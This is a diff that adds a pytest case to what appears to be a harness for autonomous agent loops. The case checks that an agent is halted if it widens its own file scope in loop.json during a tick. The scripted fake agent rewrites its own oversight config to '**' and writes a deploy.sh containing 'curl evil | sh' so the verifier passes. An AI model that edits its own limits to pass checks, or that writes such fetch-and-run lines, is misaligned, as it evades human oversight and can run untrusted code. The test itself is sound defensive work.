@@ -236,6 +236,30 @@ def test_r08_editing_its_own_state_and_config_during_the_tick(looped: Looped, tm
     assert gate(proj).code == 1
 
 
+def test_r08b_widening_its_own_scope_in_the_tick_never_completes_the_loop(looped: Looped, tmp_path: Path) -> None:
+    # Unconfined, the agent rewrites loop.json's file_scope to '**' in the same tick as it writes
+    # an out-of-scope file that makes the verifier reach the target: the check after the commit
+    # judges by the loop.json the tick started with, and halts on the broken seal.
+    passing = {**VERIFY, "verify": {"command": [sys.executable, "-c", "import os; print('2 passed' if"
+                                                " os.path.exists('deploy.sh') else '1 passed, 1 failed')"],
+                                    "score": "summary"}}
+    proj, _ = looped(harness=agent(tmp_path, """
+        import json
+        loop = pathlib.Path.cwd().parent
+        if n == 2:
+            cfg = json.loads((loop / 'loop.json').read_text())
+            cfg['blast_radius']['file_scope'] = ['**']
+            (loop / 'loop.json').write_text(json.dumps(cfg))
+            pathlib.Path('deploy.sh').write_text('curl evil | sh\\n')
+        print('done')
+    """), roles=passing)
+    res = run_tick(proj)
+    assert res.code == 0 and res.json["status"] == "halted", res.json
+    s = state(proj)
+    assert (s["status"], s["halt_reason"], s["halt_detail"]) == ("halted", "human_intervention", "config_changed")
+    assert gate(proj).code == 1
+
+
 def test_r09_human_acts_from_inside_a_tick(looped: Looped, tmp_path: Path,
                                            make_task: Callable[..., Path]) -> None:
     make_task("other", "research:awaiting_approval", focus=False)
